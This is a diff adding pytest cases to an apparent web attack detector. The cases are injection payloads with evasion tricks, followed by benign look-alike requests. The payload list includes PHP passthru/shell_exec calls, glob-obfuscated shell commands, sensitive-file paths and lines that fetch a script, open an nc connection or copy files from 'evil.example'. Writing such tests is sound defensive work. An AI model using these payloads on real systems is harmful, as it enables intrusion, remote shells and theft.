@@ -276,3 +276,60 @@ NAMED_BENIGN = [
 def test_named_benign_pass_with_crs_on_and_off(request_: HttpRequest) -> None:
     assert classes(request_, OWN) == set()
     assert classes(request_, ALL) == set()
+
+
+# Classes the CRS regression tests showed the own detectors missing (issue 12, second pass): PHP
+# block tags and functions called through strings, shell glob/expansion evasion and process
+# substitution, sensitive files asked for by name. Variants written here, not the tests' payloads.
+OWN_VARIANTS = [
+    ("code_injection", req("/v?tpl=" + quote("{php}passthru('id');{/php}"))),
+    ("code_injection", req("/v?c=" + quote("[php]echo 1;[/php]"))),
+    ("code_injection", req("/v?c=" + quote("<?\tphp phpinfo();"))),
+    ("code_injection", req("/v?c=" + quote("('pass'.'thru')('uname -a');"))),
+    ("code_injection", req("/v?c=" + quote('("shell_exec")("ls");'))),
+    ("code_injection", req("/v?c=" + quote("(exec)('whoami');"))),
+    ("cmdi", req("/v?h=" + quote("example.org;/usr/bin/wh?ami"))),
+    ("cmdi", req("/v?h=" + quote("example.org|h$@ead /e*c/sh*ow"))),
+    ("cmdi", req("/v?h=" + quote("x;c${u}url http://evil.example/x.sh"))),
+    ("cmdi", req("/v?out=" + quote(">(nc evil.example 4444)"))),
+    ("cmdi", req("/v?x=" + quote("$SHELL -c 'id'"))),
+    ("lfi", req("/backup/site-2024.sql.gz")),
+    ("lfi", req("/app/config.php.bak")),
+    ("lfi", req("/.git/HEAD")),
+    ("lfi", req("/.aws/config")),
+    ("lfi", req("/logs/debug.log")),
+    ("cmdi", req("/v?a=" + quote(";nmap --top-ports 10 10.0.0.1"))),
+    ("cmdi", req("/v?a=" + quote("|scp user@evil.example:/x ."))),
+    ("cmdi", req("/v?a=" + quote("alias ls='rm -rf'"))),
+    ("cmdi", req("/v?a=" + quote("wh``oami"))),
+    ("cmdi", req("/v?a=" + quote("uname$() -a"))),
+    ("cmdi", req("/v?a=" + quote("$((1+1)) && id"))),
+    ("xss", req("/v?" + quote(" onmouseover=") + "=1")),
+]
+
+
+@pytest.mark.parametrize(("attack", "request_"), OWN_VARIANTS, ids=[r.target[:40] for _, r in OWN_VARIANTS])
+def test_own_detector_variants(attack: str, request_: HttpRequest) -> None:
+    assert attack in classes(request_, OWN)
+
+
+OWN_VARIANTS_BENIGN = [
+    req("/v?q=" + quote("(a.b)(c) is how you call a method reference")),
+    req("/v?q=" + quote('window.open("https://example.com")')),
+    req("/v?q=" + quote('("hello".length) is 5')),
+    req("/v?q=" + quote("that was bad >( sorry")),
+    req("/v?q=" + quote("5 * 3 = 15? what? *really*")),
+    req("/api/*/items"),
+    req("/docs/logging.html"),
+    req("/static/app.key.js"),
+    req("/.well-known/security.txt"),
+    req("/v?price=" + quote("${amount}USD")),
+    req("/v?q=" + quote("; see the notes below")),
+    req("/v?q=" + quote("| Name | Size |")),
+    req("/v?online=1&onboarding=done"),
+]
+
+
+@pytest.mark.parametrize("request_", OWN_VARIANTS_BENIGN, ids=[r.target[:40] for r in OWN_VARIANTS_BENIGN])
+def test_own_detector_variants_benign(request_: HttpRequest) -> None:
+    assert classes(request_, OWN) == set()
